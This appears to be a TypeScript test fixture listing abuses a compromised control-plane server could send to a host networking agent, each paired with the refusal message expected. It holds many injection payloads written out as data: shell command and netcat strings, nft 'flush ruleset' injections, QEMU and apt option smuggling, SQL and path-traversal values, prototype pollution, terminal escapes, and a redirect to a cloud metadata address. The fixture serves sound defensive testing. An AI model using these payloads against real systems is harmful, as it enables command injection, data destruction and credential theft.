/**
 * What a server that was taken over could try. Each abuse is one order to the fake server and what the agent's refusal of it
 * must say. States are honest ones with one thing wrong, so that nothing but that thing can be the reason.
 */
import type { KeyObject } from 'node:crypto'
import { sign } from 'node:crypto'
import { approvalText } from '../../src/model/approval.ts'
import type { AgentState, DesiredState, RuleList } from '../../src/model/desired.ts'
import { facetAbuses, wearing } from './facet-abuses.ts'
import type { Order } from './server.ts'

export type Abuse = {
  readonly name: string
  readonly reason: RegExp
  /** `own`: it ends or replaces the connection, so nothing else is sent beside it. */
  readonly line: 'shared' | 'own'
  orders(n: number): readonly Order[]
}

/** Orders about machines: none of them is one, or the floor asks for a signature that an order has not. */
function orderAbuses(now: number): Abuse[] {
  const order = {
    id: `m_${'0'.repeat(32)}`,
    machine: 'till',
    act: { do: 'start' },
    by: 'session:ana',
    until: now + 600_000,
  }
  const said = (name: string, reason: RegExp, more: object): Abuse => ({
    name,
    reason,
    line: 'shared',
    orders: () => [{ send: JSON.stringify({ type: 'machine', order: { ...order, ...more } }) }],
  })
  const link = { do: 'clone', copy: 'c', link: 'x,script=/bin/sh' }
  return [
    said('an order about a machine with a name of a shell', SCHEMA, { machine: 'till;reboot' }),
    said('an order about a machine that is an option', SCHEMA, { machine: '--help' }),
    said('an order about a machine that climbs', SCHEMA, { machine: '../../x' }),
    said('a copy whose link is an option of QEMU', SCHEMA, { act: link }),
    said('an order to define a machine', SCHEMA, { act: { do: 'define', kernel: '/bin/sh' } }),
    said('an order in words that move the cursor', SCHEMA, { by: '\u001b[2J' }),
    said('an unsigned order to destroy', /destroy till: this host asks for signatures/, {
      ...{ id: `m_${'1'.repeat(32)}`, act: { do: 'destroy' } },
    }),
    said('an order that is too late', /start till: it came too late/, { id: `m_${'2'.repeat(32)}`, until: 0 }),
  ]
}

export type Ground = {
  /** An honest state that would be taken. */
  honest(n: number): AgentState
  readonly agent: string
  readonly hostKey: string
  readonly server: string
  /** A key the floor knows, and one it does not. */
  readonly approver: { readonly key: string; readonly privateKey: KeyObject }
  readonly stranger: { readonly key: string; readonly privateKey: KeyObject }
  readonly now: number
  readonly marker: string
}

type Change = (state: AgentState) => unknown
const why = { rule: 'r/0', text: 'test' }
const DENY: RuleList = { rules: [], otherwise: 'deny', why }
const CHARACTERS = /has characters that no name here may have/
const SCHEMA = /does not match its schema/

export function abuses(ground: Ground): Abuse[] {
  const { hostKey, server, now, marker } = ground
  const said = (name: string, reason: RegExp, change: Change): Abuse => ({
    name,
    reason,
    line: 'shared',
    orders: (n) => [{ send: JSON.stringify({ type: 'state', state: change(ground.honest(n)) }) }],
  })
  const first = (state: AgentState, more: object): AgentState => ({
    ...state,
    workloads: [{ ...state.workloads[0]!, ...more }, ...state.workloads.slice(1)],
  })
  const keyed = (key: string) => said(`key ${JSON.stringify(key)}`, CHARACTERS, (state) => first(state, { key }))
  const ruled = (name: string, reason: RegExp, of: object) =>
    said(name, reason, (state) => first(state, { egress: { ...DENY, why: { ...why, ...of } } }))
  const matched = (name: string, reason: RegExp, match: object) =>
    said(name, reason, (state) =>
      first(state, {
        egress: {
          ...DENY,
          rules: [{ verdict: 'allow', match: { peer: { kind: 'any' }, service: null, ...match }, why }],
        },
      }),
    )
  const worn = (name: string, reason: RegExp, network: object) =>
    said(name, reason, (state) => first(state, { network: { addresses: ['10.99.0.5/24'], gateways: [], ...network } }))
  const hosted = (state: AgentState, more: object): AgentState => ({
    ...state,
    workloads: [
      ...state.workloads,
      { ...state.workloads[0]!, workload: 'w9', key: hostKey, ...ALLOWED, ...more } as DesiredState,
    ],
  })
  const line = (name: string, reason: RegExp, text: (n: number) => string): Abuse => ({
    name,
    reason,
    line: 'shared',
    orders: (n) => [{ send: text(n) }],
  })
  const text = (n: number, change: (text: string) => string) =>
    change(JSON.stringify({ type: 'state', state: ground.honest(n) }))
  const signed = (name: string, by: Ground['approver'], of: (state: AgentState) => AgentState): Abuse => ({
    name,
    reason: /needs 1 approver signature\(s\) that this host knows; it has 0/,
    line: 'shared',
    orders(n) {
      const state = { ...ground.honest(n), failSafe: [] }
      const signature = sign(null, approvalText(ground.agent, of(state)), by.privateKey).toString('base64url')
      return [{ send: JSON.stringify({ type: 'state', state, approvals: [{ key: by.key, signature }] }) }]
    },
  })

  return [
    ...[
      '; touch M',
      '$(touch M)',
      '`touch M`',
      '| nc 192.0.2.1 9',
      '&& reboot',
      '-o',
      '--help',
      '*',
      'eth*',
      'lo+',
      '',
      'a"b',
      'wa\u0000',
      'wa\u001b[2J',
      'wa" accept; flush ruleset; "',
      'wa\nadd table inet evil',
    ].map((key) => keyed(key.replace('M', marker))),
    said('key leads out of its folder', /leads out of its folder/, (state) => first(state, { key: 'netns/../../etc' })),
    said('key __proto__', /born with/, (state) => first(state, { key: '__proto__' })),
    said('key constructor', /born with/, (state) => first(state, { key: 'constructor' })),
    said('set called toString', /born with/, (state) => ({
      ...state,
      sets: [...state.sets, { name: 'toString', members: [] }],
    })),
    said('set called a command', SCHEMA, (state) => ({ ...state, sets: [{ name: 's; reboot', members: [] }] })),
    said('workload id as SQL', CHARACTERS, (state) => first(state, { workload: "w'; drop table plans;--" })),
    said('plan id as a pipe', CHARACTERS, (state) => ({ ...state, plan: 'p|nc' })),
    said('persona name runs a program', CHARACTERS, (state) =>
      first(state, { persona: { id: 'x', name: '$(id)', version: 1 } }),
    ),
    said('persona name moves the cursor', CHARACTERS, (state) =>
      first(state, { persona: { id: 'x', name: 'a\u001b[1A', version: 1 } }),
    ),
    said('persona id climbs', CHARACTERS, (state) => first(state, { persona: { id: '../x', name: 'X', version: 1 } })),
    ruled('rule id ends the nft string', CHARACTERS, { rule: '"; flush ruleset; "' }),
    ruled('rule id with an escape', CHARACTERS, { rule: 'r\u001b]0;x' }),
    ruled('reason with a terminal escape', /control characters/, { text: '\u001b[31mroot\u001b[0m' }),
    ruled('reason with NUL', /control characters/, { text: 'a\u0000b' }),
    ruled('reason that turns the reading direction', /control characters/, { text: 'a\u202eb' }),
    ruled('policy name as a path', CHARACTERS, { policy: 'a\\..\\b' }),
    ruled('reason longer than any', SCHEMA, { text: 'x'.repeat(501) }),
    matched('network with host bits', /host bits/, { peer: { kind: 'cidr', cidr: '10.0.0.1/8' } }),
    matched('network with no such prefix', /is no network/, { peer: { kind: 'cidr', cidr: '::/129' } }),
    matched('network as nft text', SCHEMA, { peer: { kind: 'cidr', cidr: '10.0.0.0/8 } accept' } }),
    matched('set by a pattern', SCHEMA, { peer: { kind: 'set', set: '@*' } }),
    matched('ports reversed', /are none/, { service: { protocol: 'tcp', from: 90, to: 80 } }),
    matched('port 0', SCHEMA, { service: { protocol: 'tcp', from: 0, to: 0 } }),
    worn('address as a command', SCHEMA, { addresses: ['10.0.0.1;reboot'] }),
    worn('address that is none', /is no address/, { addresses: ['999.1.1.1/24'] }),
    worn('multicast address', /one workload could have/, { addresses: ['224.0.0.9/24'] }),
    worn('loopback address', /one workload could have/, { addresses: ['127.0.0.9/8'] }),
    worn('the address of the control plane', /the control plane/, { addresses: [`${server}/32`] }),
    worn('a subnet that swallows the control plane', /the control plane/, { addresses: ['10.77.1.77/16'] }),
    worn('the control plane as its gateway', /the control plane/, { gateways: [server] }),
    worn('an address of the management network', /management, which is protected/, { addresses: ['203.0.113.9/32'] }),
    worn('a gateway as an ip batch', SCHEMA, { gateways: ['10.99.0.1\nlink del eth0'] }),
    worn('the control plane as a next hop', /the control plane/, { routes: [{ to: '10.50.0.0/16', via: server }] }),
    worn('a route as an ip batch', SCHEMA, { routes: [{ to: '10.50.0.0/16\nlink del eth0', via: '10.99.0.1' }] }),
    worn('packets below every size', SCHEMA, { mtu: 1 }),
    said('one address for two', /given to two workloads/, (state) => ({
      ...state,
      workloads: state.workloads.map((one) => ({ ...one, network: { addresses: ['10.98.0.5/24'], gateways: [] } })),
    })),
    said('resolver that is none', /is no address/, (state) => first(state, { dns: { servers: ['...'], search: [] } })),
    said('search domain as a command', SCHEMA, (state) =>
      first(state, { dns: { servers: ['10.0.0.1'], search: ['$(id)'] } }),
    ),
    said('resolver file with a second line', SCHEMA, (state) =>
      first(state, { dns: { servers: ['10.0.0.1'], search: ['a\nnameserver 192.0.2.1'] } }),
    ),
    said('control plane denied to the host', /off from the control plane/, (state) => hosted(state, { egress: DENY })),
    said('host contained', /off from the control plane: by its containment/, (state) =>
      hosted(state, { containment: { directions: 'both', until: now + 60_000, why } }),
    ),
    said('control plane denied by one rule among many', /off from the control plane: by rule/, (state) =>
      hosted(state, {
        egress: {
          ...ALLOWED.egress,
          rules: [{ verdict: 'deny', match: { peer: { kind: 'cidr', cidr: '10.0.0.0/8' }, service: null }, why }],
        },
      }),
    ),
    said('management network cut', /off from management/, (state) => hosted(state, { ingress: DENY })),
    said('enforcement taken off', /less than enforce/, (state) => ({ ...state, mode: 'off' })),
    said('fail-safe path dropped, nobody signed', /drops the fail-safe path/, (state) => ({ ...state, failSafe: [] })),
    signed('fail-safe path dropped, a stranger signed', ground.stranger, (state) => state),
    signed('fail-safe path dropped, the signature of another plan', ground.approver, (state) => ({
      ...state,
      plan: 'p_other',
    })),
    signed('fail-safe path dropped, a signature that is replayed', ground.approver, (state) => ({
      ...state,
      generation: { ...state.generation, n: 1 },
    })),
    said('older generation', /older than generation/, (state) => ({
      ...state,
      generation: { ...state.generation, n: 0 },
    })),
    said('older timeline', /older than generation/, (state) => ({
      ...state,
      generation: { ...state.generation, timeline: 0 },
    })),
    said('another control plane', /another control plane/, (state) => ({
      ...state,
      generation: { ...state.generation, system: 'evil' },
    })),
    said('system identifier as a command', /another control plane/, (state) => ({
      ...state,
      generation: { ...state.generation, system: '$(id)' },
    })),
    said('containment that never ends', /lasts at most/, (state) =>
      first(state, { containment: { directions: 'both', until: 1e300, why } }),
    ),
    said('containment of a hundred years', /lasts at most/, (state) =>
      first(state, { containment: { directions: 'both', until: now + 3e12, why } }),
    ),
    said('confirmed within 0 ms', SCHEMA, (state) => ({ ...state, confirmWithinMs: 0 })),
    said('confirmed within a century', SCHEMA, (state) => ({ ...state, confirmWithinMs: 3e12 })),
    said('confirmed later than the floor lets', /ms to wait for a confirmation/, (state) => ({
      ...state,
      confirmWithinMs: 3_600_000,
    })),
    said('more rules than the floor lets', /rules; this host takes at most/, (state) => {
      const rule = { verdict: 'allow', match: { peer: { kind: 'any' }, service: null }, why }
      return first(state, {
        egress: { ...DENY, rules: Array(5_000).fill(rule) },
        ingress: { ...DENY, rules: Array(5_000).fill(rule) },
      })
    }),
    said('more addresses than the floor lets', /addresses in sets; this host/, (state) => ({
      ...state,
      sets: [
        {
          name: 'many',
          members: Array.from({ length: 60_000 }, (_, i) => `10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`),
        },
      ],
    })),
    said('more sets than any', SCHEMA, (state) => ({
      ...state,
      sets: Array.from({ length: 1_001 }, (_, i) => ({ name: `s${i}`, members: [] })),
    })),
    said('more changes in a minute than the floor lets', /changed within a minute/, (state) => ({
      ...state,
      workloads: [
        ...state.workloads,
        ...Array.from({ length: 600 }, (_, i) => ({ ...state.workloads[0]!, workload: `x${i}`, key: `x${i}` })),
      ],
    })),
    said('a workload twice', /named twice/, (state) => ({
      ...state,
      workloads: [...state.workloads, state.workloads[0]!],
    })),
    said('a set twice', /named twice/, (state) => ({ ...state, sets: [...state.sets, ...state.sets] })),
    said('a field that nobody knows', SCHEMA, (state) => ({ ...state, run: `touch ${marker}` })),
    said('a field that moves the cursor', SCHEMA, (state) => ({ ...state, '\u001b[2J\u001b]0;x\u0007': 1 })),
    said('a facet that nobody knows', SCHEMA, (state) => first(state, { exec: ['touch', marker] })),
    ...[['../../x'], ['-oAPT::Update::Pre-Invoke::=id'], ['curl; id'], ['curl-'], ['.*'], { install: ['curl'] }].map(
      (packages) => said(`packages ${JSON.stringify(packages)}`, SCHEMA, (state) => first(state, { packages })),
    ),
    said('a package that the floor does not list', /facet packages|not among those that this host lists/, (state) =>
      first(state, { packages: ['curl'] }),
    ),
    ...facetAbuses(marker, server).map(({ name, reason, facets }) =>
      said(name, reason, (state) => wearing(state, facets)),
    ),
    said('workloads as an object', SCHEMA, (state) => ({ ...state, workloads: { 0: state.workloads[0] } })),
    said('generation as text', SCHEMA, (state) => ({ ...state, generation: { ...state.generation, n: '99' } })),
    said('no state at all', SCHEMA, () => null),
    ...orderAbuses(now),
    line('an unknown kind of message', /no kind that is known/, () => '{"type":"exec","argv":["id"]}'),
    line('a list for a message', /no kind that is known/, () => '[]'),
    line('a number for a message', /no kind that is known/, () => '1e999'),
    line('half a message', /no JSON/, (n) => text(n, (one) => one.slice(0, -20))),
    line('brackets without end', /no JSON/, () => '['.repeat(100_000)),
    line('a byte order mark', /no JSON/, (n) => text(n, (one) => `\ufeff${one}`)),
    line('a name given twice', /JSON.stringify/, (n) =>
      text(n, (one) => one.replace('"plan":', '"plan":"p_0","plan":')),
    ),
    line('__proto__ in the message', SCHEMA, (n) =>
      text(n, (one) => one.replace('{"type"', '{"__proto__":{"mode":"off"},"type"')),
    ),
    line('__proto__ in a workload', SCHEMA, (n) =>
      text(n, (one) => one.replace('{"workload"', '{"__proto__":{"containment":null},"workload"')),
    ),
    line('another spelling of a number', /JSON.stringify/, (n) =>
      text(n, (one) => one.replace('"timeline":1', '"timeline":1.0')),
    ),
    line('confirm of what nobody applied', /not under way here/, () => confirmation('confirm', 7_777)),
    line('roll-back of what nobody applied', /not under way here/, () => confirmation('rollback', 7_777)),
    line('everybody as an indicator', /would be everybody/, () =>
      indicators({ entries: [entry({ cidr: '0.0.0.0/1' })] }),
    ),
    line('an indicator that is no network', /is no network/, () =>
      indicators({ entries: [entry({ cidr: '10.0.0.0/8 accept' })] }),
    ),
    line('an indicator beyond certainty', /between 0 and 1/, () =>
      indicators({ entries: [entry({ confidence: 1e9 })] }),
    ),
    line('never-block that is no network', /is no network/, () => indicators({ neverBlock: ['any'] })),
    {
      name: 'bytes that are no text',
      reason: /no JSON/,
      line: 'shared',
      orders: () => [{ bytes: Buffer.from([0xff, 0xfe, 0x00, 0x80, 0x0a]).toString('base64') }],
    },
    {
      name: 'the connection ends within a message',
      reason: /the connection ended within it/,
      line: 'own',
      orders: (n) => [{ cut: text(n, (one) => one.slice(0, 200)) }],
    },
    {
      name: 'sent elsewhere',
      reason: /answered 307/,
      line: 'own',
      orders: () => [{ redirect: 'http://169.254.169.254/latest' }],
    },
  ]
}

const ALLOWED = {
  egress: { rules: [], otherwise: 'allow' as const, why },
  ingress: { rules: [], otherwise: 'allow' as const, why },
}

const confirmation = (type: 'confirm' | 'rollback', n: number) =>
  JSON.stringify({ type, generation: { system: 'range', timeline: 1, n }, ...(type === 'confirm' ? {} : { why: 'x' }) })
const entry = (more: object) => ({ cidr: '192.0.2.66', score: 0, feed: 'evil', confidence: 1, ...more })
const indicators = (more: object) =>
  JSON.stringify({ type: 'indicators', hash: 'evil', entries: [], neverBlock: [], homeNetworks: [], ...more })
